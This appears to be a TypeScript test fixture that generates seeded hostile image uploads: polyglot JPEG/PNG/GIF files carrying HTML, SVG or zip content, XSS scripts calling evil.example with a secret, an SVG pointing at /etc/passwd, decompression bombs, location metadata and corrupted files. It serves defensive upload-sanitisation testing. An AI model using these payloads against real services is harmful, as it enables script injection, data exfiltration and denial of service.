/** Files that a stranger might bring as a photo, made from a seed. None is taken from anywhere. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { Random } from '../../../embedded/test/support/random.ts'

export interface HostilePicture {
  name: string
  /** What it says that it is. */
  type: string
  bytes: Buffer
}

/** In every file that carries something; in nothing that the instance gives out. */
export const secret = 'SECRET-OF-THE-FILE'
const script = `<script>fetch('//evil.example/${secret}')</script>`
const html = `<!doctype html><html><body onload=alert(1)>${script}</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${secret}')">${script}<image href="file:///etc/passwd"/></svg>`
const latin = (text: string) => Buffer.from(text, 'latin1')

function picture(random: Random, width = 24 + random.below(120), height = 24 + random.below(120)) {
  const background = { r: random.below(256), g: random.below(256), b: random.below(256) }
  return sharp({ create: { width, height, channels: 3, background } })
}

function placed(random: Random) {
  return picture(random)
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>23,33S ${secret}</exif:GPSLatitude></x:xmpmeta>`)
    .withExif({
      IFD0: { Make: secret, ImageDescription: script },
      IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '23/1 33/1 1/1', GPSLongitudeRef: 'W', GPSLongitude: '46/1 38/1 1/1' },
    })
}

/** A chunk of a PNG; `isSound` false gives it a wrong checksum. Source: the PNG specification, section 5.3. */
function chunk(kind: string, data: Buffer, isSound = true): Buffer {
  const named = Buffer.concat([latin(kind), data])
  const whole = Buffer.alloc(named.length + 8)
  whole.writeUInt32BE(data.length)
  named.copy(whole, 4)
  whole.writeUInt32BE(isSound ? crc32(named) : (crc32(named) ^ 0x5a5a5a5a) >>> 0, named.length + 4)
  return whole
}

function header(width: number, height: number, isSound = true): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width)
  data.writeUInt32BE(height, 4)
  data.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([latin('\x89PNG\r\n\x1a\n'), chunk('IHDR', data, isSound)])
}

/** A segment of a JPEG right behind its beginning. */
function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const segment = Buffer.alloc(4)
  segment.set([0xff, marker])
  segment.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), segment, content, jpeg.subarray(2)])
}

function withChunks(png: Buffer, ...chunks: Buffer[]): Buffer {
  return Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)])
}

function zip(): Buffer {
  const content = deflateRawSync(latin(html))
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 'latin1')
  head.writeUInt32LE(content.length, 18)
  head.writeUInt16LE(10, 26)
  return Buffer.concat([head, latin('index.html'), content])
}

function gifOfSize(width: number, height: number): Buffer {
  const bytes = latin('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\0\0\0\0\0\x02\x02D\x01\0;')
  bytes.writeUInt16LE(width, 6)
  bytes.writeUInt16LE(height, 8)
  bytes.writeUInt16LE(width, 24)
  bytes.writeUInt16LE(height, 26)
  return bytes
}

function flipped(random: Random, bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes)
  for (let count = 1 + random.below(20); count > 0; count -= 1) {
    const at = 12 + random.below(Math.max(1, copy.length - 12))
    if (at < copy.length) copy[at] = random.below(256)
  }
  return copy
}

type Maker = (random: Random) => Promise<HostilePicture> | HostilePicture
const says = (random: Random) =>
  random.pick(['image/jpeg', 'image/png', 'image/webp', 'image/gif', 'image/svg+xml', 'image/x-anything'])
const made = (name: string, type: string, bytes: Buffer | string): HostilePicture => ({
  name,
  type,
  bytes: Buffer.isBuffer(bytes) ? bytes : latin(bytes),
})

const makers: readonly Maker[] = [
  async (random) => made('a photo with its place', 'image/jpeg', await placed(random).jpeg().toBuffer()),
  async (random) => made('a WebP with its place', 'image/webp', await placed(random).webp().toBuffer()),
  async (random) => made('a PNG with its place', 'image/png', await placed(random).png().toBuffer()),
  async (random) => made('an AVIF with its place', 'image/avif', await placed(random).avif({ effort: 0 }).toBuffer()),
  async (random) => made('a JPEG that says it is a PNG', 'image/png', await placed(random).jpeg().toBuffer()),
  async (random) => {
    const behind = random.pick([
      latin(html),
      zip(),
      latin(`%PDF-1.7 ${script}`),
      latin(svg),
      Buffer.alloc(3_000_000, secret),
    ])
    return made(
      'a JPEG with something behind it',
      'image/jpeg',
      Buffer.concat([await placed(random).jpeg().toBuffer(), behind]),
    )
  },
  async (random) =>
    made(
      'a PNG with a page behind it',
      'image/png',
      Buffer.concat([await picture(random).png().toBuffer(), latin(html)]),
    ),
  async (random) => {
    const marker = random.pick([0xfe, 0xe1, 0xe2, 0xed, 0xef])
    const content = latin(
      random.pick([`*/=1;alert('${secret}');/*`, html, `Exif\0\0${secret}GPS`, `Photoshop 3.0\0${secret}`]),
    )
    return made(
      'a JPEG with a page inside',
      'image/jpeg',
      withSegment(await picture(random).jpeg().toBuffer(), marker, content),
    )
  },
  async (random) => {
    const words = random.pick([
      chunk('tEXt', latin(`Comment\0${html}`)),
      chunk('iTXt', latin(`XML:com.adobe.xmp\0\0\0\0\0${svg}`)),
      chunk('eXIf', latin(`MM\0*\0\0\0\x08\0\0${secret}`)),
      chunk('iCCP', Buffer.concat([latin('p\0\0'), deflateSync(latin(html))])),
      chunk('tEXt', latin(`x\0${secret}`), false),
    ])
    return made('a PNG with a page inside', 'image/png', withChunks(await picture(random).png().toBuffer(), words))
  },
  (random) =>
    made('a script that begins as a GIF', 'image/gif', `GIF89a/*${'A'.repeat(random.below(200))}*/=1;${script}`),
  (random) => made('a page', says(random), html),
  (random) => made('an SVG', says(random), random.pick([svg, `<?xml version="1.0"?>${svg}`, `\xef\xbb\xbf${svg}`])),
  (random) =>
    made(
      'a document',
      says(random),
      random.pick([
        `%PDF-1.7\n${script}`,
        `%!PS ${secret}`,
        `push graphic-context\nimage over 0,0 0,0 'https://evil.example/${secret}'`,
      ]),
    ),
  (random) => made('an archive', says(random), zip()),
  (random) => {
    const side = 30_000 + random.below(35_000)
    return made(
      'a PNG of a billion pixels',
      'image/png',
      Buffer.concat([
        header(side, side),
        chunk('IDAT', deflateSync(Buffer.alloc(2_000_000))),
        chunk('IEND', Buffer.alloc(0)),
      ]),
    )
  },
  (random) => made('a GIF of four billion pixels', 'image/gif', gifOfSize(65_535, 60_000 + random.below(5_535))),
  async (random) => {
    const words = chunk('zTXt', Buffer.concat([latin('Comment\0\0'), deflateSync(Buffer.alloc(60_000_000, secret))]))
    return made(
      'a PNG whose words unpack to 60 MB',
      'image/png',
      withChunks(await picture(random).png().toBuffer(), words),
    )
  },
  async (random) =>
    made(
      'a flat picture of 60 million pixels',
      'image/png',
      await picture(random, 7500, 8000).png({ compressionLevel: 9 }).toBuffer(),
    ),
  (random) =>
    made(
      'a PNG with a wrong checksum',
      'image/png',
      Buffer.concat([
        header(8, 8, false),
        chunk('IDAT', deflateSync(Buffer.alloc(200)), random.chance(0.5)),
        chunk('IEND', Buffer.alloc(0)),
      ]),
    ),
  (random) =>
    made(
      'nothing, or hardly',
      says(random),
      latin(
        random.pick([
          '',
          '\xff',
          '\xff\xd8\xff',
          '\x89PNG\r\n\x1a\n',
          'GIF89a',
          'RIFF\0\0\0\0WEBP',
          '\0\0\0\x18ftypheic',
        ]),
      ),
    ),
  async (random) => {
    const format = random.pick(['jpeg', 'png', 'webp', 'gif', 'avif'] as const)
    const whole = await placed(random).toFormat(format).toBuffer()
    return made(`half of a ${format}`, `image/${format}`, whole.subarray(0, 1 + random.below(whole.length)))
  },
  async (random) => {
    const format = random.pick(['jpeg', 'png', 'webp', 'gif', 'avif'] as const)
    return made(
      `a damaged ${format}`,
      `image/${format}`,
      flipped(random, await placed(random).toFormat(format).toBuffer()),
    )
  },
  (random) =>
    made(
      'a film',
      random.pick(['image/heic', 'image/avif', 'image/jpeg']),
      Buffer.concat([latin('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'), Buffer.alloc(500, secret)]),
    ),
  (random) =>
    made(
      'an iPhone’s HEIC',
      'image/heic',
      Buffer.concat([latin('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(500 + random.below(500), secret)]),
    ),
  (random) => made('noise', says(random), Buffer.from(Array.from({ length: 4000 }, () => random.below(256)))),
]

/** The n-th of a seed's files: every kind comes round. */
export async function hostilePicture(index: number, random: Random): Promise<HostilePicture> {
  return makers[index % makers.length]!(random)
}

export const kindsOfHostility = makers.length
